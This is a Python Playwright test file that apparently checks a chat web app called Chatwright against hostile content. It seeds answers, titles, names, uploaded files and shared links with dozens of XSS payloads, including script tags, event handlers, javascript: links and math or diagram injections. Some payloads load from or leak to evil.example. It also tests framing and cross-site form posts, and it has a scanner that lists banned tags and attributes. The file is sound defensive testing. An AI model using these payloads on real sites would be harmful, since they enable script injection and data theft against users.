"""Attacks on whoever looks at the page: hostile text in every place that shows text."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

from chatwright.records import Message
from page_house import PageHouse, ask, page_house

pytestmark = pytest.mark.browser

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
expect = sync_api.expect

# Each would set `window.hit`, open a dialog, leave the page or ask another server.
HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror=\"window.hit='img'\">",
    "\"><svg onload=alert(1)><a xlink:href='javascript:alert(2)'>x</a></svg>",
    "<iframe src=https://evil.example srcdoc='<script>parent.hit=3</script>'></iframe>",
    "<details open ontoggle=alert(4)><summary>x</summary></details>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(5)&gt;"></table></math>',
    "</title></textarea></style><body onload=alert(6)>",
    "<!--><img src=x onerror=alert(7)>-->",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>go</button></form>",
    "{{constructor.constructor('window.hit=8')()}} ${window.hit=9}",
    "javascript:window.hit=10",
]
MARKDOWN = [
    *HOSTILE,
    "![beacon](https://evil.example/beacon.png?q=secret)",
    "![b][r] and [d](data:text/html,<script>window.hit=11</script>)\n\n[r]: https://evil.example/r",
    "[a](javascript:window.hit=12) [b](java\tscript:alert(1)) [c](JaVaScRiPt&colon;alert(13))",
    "[e](&#106;avascript:alert(1)) [f](\x01javascript:alert(14)) [g](vbscript:x) <javascript:x>",
    '[t](https://fine.example/ "t\\" onmouseover=alert(15)")',
    '[u](https://fine.example/"onmouseover="alert`16`) <https://fine.example/\\"onclick=x>',
    "![s](data:image/svg+xml,<svg/onload=alert(17)>)",
    '```"><img src=x onerror=alert(18)>\n</code></pre><script>window.hit=19</script>\n```',
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(20)>"]\nclick A "javascript:alert(21)"\n```',
    "```html\n<script>window.hit=22</script><img src=x onerror=alert(23)>\n```",
    r"$\href{javascript:alert(24)}{x}$ $\url{javascript:alert(25)}$",
    r"$$\includegraphics{https://evil.example/i.png}$$",
    r"$\htmlData{onclick=alert(26)}{x}$ $\class{x\" onclick=\"alert(27)}{y}$",
    r"$\style{background:url(https://evil.example/s)}{z}$ $\text{<img src=x onerror=alert(28)>}$",
    r"$$\def\a{\a\a}\a$$ $\unicode{x3c}img src=x onerror=alert(29)$",
    "| <img src=x onerror=alert(30)> | [x](javascript:alert(31)) |\n|-|-|\n| <svg onload=x> | b |",
    "- [ ] <input onfocus=alert(32) autofocus>\n> <style>@import 'https://evil.example/q'</style>",
    "\u202e<script>window.hit=33</script>\u202c [1](javascript:alert(34))[2]",
    '[^1]: <img src=x onerror=alert(35)>\n\nhttps://evil.example/"><script>alert(36)</script>',
]
# What no view may hold, wherever it came from.
LOOK = """() => [...document.querySelectorAll("*")].flatMap(one => {
  const name = one.tagName.toLowerCase(), found = [];
  const head = document.head.contains(one);
  const banned = ["script", "style", "iframe", "object", "embed", "img", "link", "meta", "base",
    "foreignobject", "animate", "set", "use", "annotation-xml", "mglyph", "maction"];
  if (!head && banned.includes(name)) found.push(name);
  if (name === "script" && !/^\\/assets\\/[\\w-]+\\.js$/.test(one.getAttribute("src")))
    found.push("script from elsewhere");
  for (const {name: key, value} of one.attributes) {
    if (key.startsWith("on")) found.push(`${name} ${key}`);
    if (["href", "src", "xlink:href", "action", "formaction", "srcdoc", "data", "poster"]
        .includes(key) && !/^(https?:\\/\\/|mailto:|\\/(?!\\/)|#|blob:)/.test(value))
      found.push(`${name} ${key}=${value.slice(0, 60)}`);
    if (key === "style" && /url|expression|import/i.test(value)) found.push(`${name} ${value}`);
  }
  return found;
})"""
ATTACKER = "http://evil.example/"


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PageHouse]:
    with page_house(tmp_path_factory.mktemp("attacked")) as house:
        yield house


@pytest.fixture(autouse=True)
def unharmed(house: PageHouse) -> Iterator[None]:
    yield
    house.close_pages()
    house.script.replies.clear()
    problems, house.problems[:] = list(house.problems), []
    assert problems == []


def look(page: Any) -> None:
    """Nothing ran, and nothing stands in the page that could."""
    assert page.evaluate("window.hit") is None
    assert page.evaluate(LOOK) == []


UPLOAD = """async ([path, name, text, fields]) => {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  form.append("file", new File([text], name, {type: "image/svg+xml"}));
  const answer = await fetch(path, {method: "POST", body: form});
  if (!answer.ok) throw new Error(await answer.text());
  return answer.json();
}"""


def test_hostile_markdown_in_answers_questions_and_what_is_shared(house: PageHouse) -> None:
    page = house.open()
    whole = "\n\n".join(MARKDOWN)
    # A tool is called with hostile words and answers with them.
    tools = [tool["name"] for tool in house.send(page, "GET", "/tools")["data"]]
    call = json.dumps({"name": tools[0], "arguments": {"expression": HOSTILE[1]}})

    def answer(messages: Sequence[Message]) -> str:
        called = "<tool_response>" in messages[-1].content or messages[-1].role == "tool"
        return whole if called else f"<tool_call>\n{call}\n</tool_call>"

    house.script.replies = {"window.hit": answer}
    house.script.title = HOSTILE[1] + " hit"
    page.get_by_role("button", name="Tools and knowledge").click()
    page.get_by_role("group", name="Tools").locator("label").first.click()
    page.keyboard.press("Escape")
    first = ask(page, "window.hit at spring tide?\n" + "\n".join(HOSTILE))
    expect(first.locator(".markdown")).to_contain_text("window.hit=22")
    expect(first.locator("math")).not_to_have_count(0)
    expect(page.locator("article.question")).to_contain_text(HOSTILE[0])
    page.locator("details.tool summary").first.click()
    expect(page.locator("details.tool pre").first).to_contain_text("<img src=x")
    page.wait_for_timeout(300)  # what would load or run would have begun by now
    look(page)
    hrefs = first.locator("a").evaluate_all("links => links.map(a => [a.href, a.rel, a.target])")
    assert any(href == "https://evil.example/beacon.png?q=secret" for href, _, _ in hrefs)
    assert all(href.startswith("https://") for href, _, _ in hrefs)
    assert all("noopener" in rel and "noreferrer" in rel for _, rel, _ in hrefs)
    # (That `look` sees what it should is looked at, too.)
    page.evaluate("document.body.append(Object.assign(document.createElement('img'), {id: 'x'}))")
    assert page.evaluate(LOOK) == ["img"]
    page.evaluate("document.getElementById('x').remove()")
    first.locator("a").first.hover()
    for one in (page.locator("pre code").all())[:3]:
        one.click()
    look(page)

    # The same for somebody with the link, without any of it being theirs.
    chat = page.url.rsplit("/", 1)[1]
    made = house.send(page, "POST", f"/conversations/{chat}/shares", {})
    house.send(page, "PATCH", f"/conversations/{chat}", {"title": HOSTILE[1]})
    reader = house.open(made["url"].removeprefix(house.address), wait=False)
    expect(reader.locator(".markdown").first).to_contain_text("window.hit=22")
    expect(reader.locator("article.question")).to_contain_text(HOSTILE[0])
    reader.wait_for_timeout(200)
    look(reader)


def test_hostile_names_everywhere(house: PageHouse) -> None:
    page = house.open()
    ask(page, "A chat to name")
    chat = page.url.rsplit("/", 1)[1]
    one_line = [text for text in HOSTILE if len(text) < 100]
    for text in one_line:
        folder = house.send(page, "POST", "/folders", {"name": text})
        tag = house.send(page, "POST", "/tags", {"name": text[:60]})
        house.send(page, "POST", "/personas", {"name": text, "instructions": text})
        house.send(page, "POST", "/memories", {"text": text})
        house.send(page, "POST", "/collections", {"name": text})
        change = {"title": text, "folder_id": folder["id"], "tags": [tag["id"]]}
        house.send(page, "PATCH", f"/conversations/{chat}", change)
        house.send(page, "POST", "/conversations", {"title": text})
    page.reload()
    expect(page.locator(".chat-link").first).to_be_visible()
    expect(page).to_have_title(f"{one_line[-1]} \u00b7 Chatwright")
    look(page)
    page.get_by_role("button", name="Instructions and parameters").click()
    page.get_by_label("Persona").select_option(label=one_line[1])
    look(page)
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Tools and knowledge").click()
    expect(page.get_by_role("group", name="Knowledge").locator("label")).to_have_count(
        len(one_line)
    )
    look(page)
    page.keyboard.press("Escape")
    page.keyboard.press("Control+k")
    page.keyboard.type("<img")
    expect(page.get_by_role("option").first).to_be_visible()
    look(page)
    page.keyboard.press("Escape")
    page.locator(".chat-link").first.hover()  # its tooltip
    look(page)
    for path, text in (
        ("/settings/personas", one_line[1]),
        ("/settings/memory", one_line[1]),
        ("/knowledge", one_line[1]),
    ):
        page.goto(house.address + path)
        expect(page.get_by_text(text).locator("visible=true").first).to_be_visible()
        look(page)


def test_hostile_files_and_a_poisoned_document(house: PageHouse) -> None:
    page = house.open()
    name = "<img src=x onerror=alert(1)>.md"
    poison = f"# {HOSTILE[1]}\n\nThe crane lifts forty tonnes.\n\n" + "\n\n".join(MARKDOWN)
    made = house.send(page, "POST", "/collections", {"name": HOSTILE[2]})
    page.evaluate(UPLOAD, [f"/v1/chatwright/collections/{made['id']}/files", name, poison, {}])
    page.reload()
    page.get_by_role("button", name="Tools and knowledge").click()
    page.get_by_role("group", name="Knowledge").locator("label").last.click()
    page.keyboard.press("Escape")
    house.script.replies = {"crane": "Forty tonnes [1], it says [2]."}
    page.evaluate(
        """([name, text]) => {
          const data = new DataTransfer();
          data.items.add(new File([text], name, {type: "text/markdown"}));
          const told = {dataTransfer: data, bubbles: true, cancelable: true};
          document.body.dispatchEvent(new DragEvent("drop", told));
        }""",
        [name, poison],
    )
    expect(page.locator(".composer .file-name")).to_have_text(name)
    answer = ask(page, "How much does the crane lift?")
    expect(page.locator(".question-frame .file-name")).to_have_text(name)
    look(page)
    answer.locator(".markdown .chip").first.hover()
    answer.locator(".markdown .chip").first.click()
    drawer = page.get_by_role("dialog")
    expect(drawer.locator(".passage")).to_contain_text("forty tonnes")
    page.wait_for_timeout(200)
    look(page)

    # A picture with a script in it, as a file of the API, opened in a tab of its own.
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
    )
    told = page.evaluate(UPLOAD, ["/v1/files", "x.svg", svg, {"purpose": "user_data"}])
    tab = page.context.new_page()
    house.watch(tab)
    with tab.expect_download() as download:
        tab.evaluate(f"location.href = '{house.address}/v1/files/{told['id']}/content'")
    assert download.value.suggested_filename
    assert tab.evaluate("window.hit") is None


def test_other_pages_cannot_frame_open_or_ask(house: PageHouse) -> None:
    page = house.open()
    context = page.context
    frame = f"<iframe src='{house.address}/'></iframe>"
    form = (
        f"<form method=post action='{house.address}/v1/chatwright/folders' enctype=text/plain>"
        '<input name=\'{"name":"stolen","x":"\' value=\'"}\'></form>'
    )
    context.route(
        "http://evil.example/**",
        lambda route: route.fulfill(body=frame + form, content_type="text/html"),
    )
    evil = context.new_page()  # not watched: it is the attacker's
    evil.goto(ATTACKER)
    evil.wait_for_timeout(300)
    [framed] = [one for one in evil.frames if one is not evil.main_frame]
    assert framed.url.startswith("chrome-error://") or framed.locator("#page").count() == 0
    # A window that it opens knows nothing of it, and the other way round.
    with context.expect_page() as opened:
        evil.evaluate(f"window.w = window.open('{house.address}/')")
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None
    assert evil.evaluate(
        "(() => { try { return w.closed || !w.document } catch { return true } })()"
    )
    # What it sends is refused, by script and by form.
    evil.evaluate(
        """async (address) => {
          for (const type of ["text/plain", "application/json"])
            await fetch(address + "/v1/chatwright/folders", {method: "POST", mode: "no-cors",
              headers: {"Content-Type": type}, body: '{"name": "stolen"}'}).catch(() => 0);
        }""",
        house.address,
    )
    with evil.expect_response("**/v1/chatwright/folders") as refused:
        evil.evaluate("document.forms[0].submit()")
    assert refused.value.status == 403
    names = [one["name"] for one in house.send(page, "GET", "/folders")["data"]]
    assert "stolen" not in names
